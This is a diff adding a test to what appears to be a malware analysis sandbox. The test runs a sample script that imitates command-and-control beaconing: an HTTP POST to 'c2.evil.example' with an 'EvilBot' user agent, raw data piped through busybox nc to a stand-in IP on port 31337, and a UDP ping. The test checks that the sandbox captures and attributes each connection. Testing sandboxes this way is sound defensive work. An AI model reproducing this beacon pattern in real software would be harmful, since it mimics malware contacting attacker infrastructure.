@@ -159,3 +159,67 @@ def test_network_objects_are_gone_after_runs(guest_image: GuestImage, tmp_path: 
     sample.write_text("#!/bin/sh\ntrue\n")
     run_analysis(sample, tmp_path / "out", AnalysisOptions(timeout=3))
     assert set(list_sandbox_namespaces()) <= before
+
+
+PROTOCOLS_SAMPLE = """#!/bin/sh
+python3 - http-client <<'PY'
+import http.client, socket
+print("resolved", socket.gethostbyname("c2.evil.example"))
+c = http.client.HTTPConnection("c2.evil.example", 80, timeout=5)
+c.request("POST", "/gate.php", body=b"id=42&os=linux", headers={"User-Agent": "EvilBot/6.6"})
+print("http", c.getresponse().status)
+PY
+echo hello-raw | busybox nc -w 2 198.51.100.23 31337
+python3 - udp-client <<'PY'
+import socket
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp-ping", ("203.0.113.9", 5353))
+PY
+"""
+
+
+def test_protocols_are_answered_attributed_and_captured(
+    guest_image: GuestImage, tmp_path: Path, no_leftovers: None
+) -> None:
+    sample = tmp_path / "talker.sh"
+    sample.write_text(PROTOCOLS_SAMPLE)
+    out = tmp_path / "out"
+    report = run_analysis(sample, out, AnalysisOptions(timeout=20)).report
+    assert "resolved 10.0.2.2" in report["output"]["stdout"]
+    assert "http 200" in report["output"]["stdout"]
+    procs = report["processes"]
+
+    def pid_of(marker: str) -> int:
+        return next(p["pid"] for p in procs if marker in p["argv"])
+
+    network = report["network"]
+    http_pid, udp_pid = pid_of("http-client"), pid_of("udp-client")
+    nc_pid = next(p["pid"] for p in procs if p["argv"][:2] == ["busybox", "nc"])
+    assert any(
+        d["name"] == "c2.evil.example" and d["type"] == "A" and d["pid"] == http_pid
+        for d in network["dns_traffic"]
+    ), network["dns_traffic"]
+    posts = [h for h in network["http"] if h["method"] == "POST"]
+    assert posts and posts[0]["user_agent"] == "EvilBot/6.6" and posts[0]["pid"] == http_pid
+    assert posts[0]["host"] == "c2.evil.example" and posts[0]["body_size"] == 14
+    flows = network["flows"]
+    assert any(
+        f["dst_ip"] == "198.51.100.23"
+        and f["dst_port"] == 31337
+        and f["proto"] == "tcp"
+        and f["pid"] == nc_pid
+        for f in flows
+    ), flows
+    assert any(
+        f["dst_ip"] == "203.0.113.9"
+        and f["dst_port"] == 5353
+        and f["proto"] == "udp"
+        and f["pid"] == udp_pid
+        for f in flows
+    ), flows
+    destinations = _tcp_destinations(out / "network.pcap")
+    assert ("198.51.100.23", 31337) in destinations
+    records = [json.loads(line) for line in (out / "fakenet.jsonl").open()]
+    assert any(r["service"] == "http" and r.get("user_agent") == "EvilBot/6.6" for r in records)
+    assert any(
+        r["service"] == "catchall_tcp" and "hello-raw" in str(r.get("data", "")) for r in records
+    )
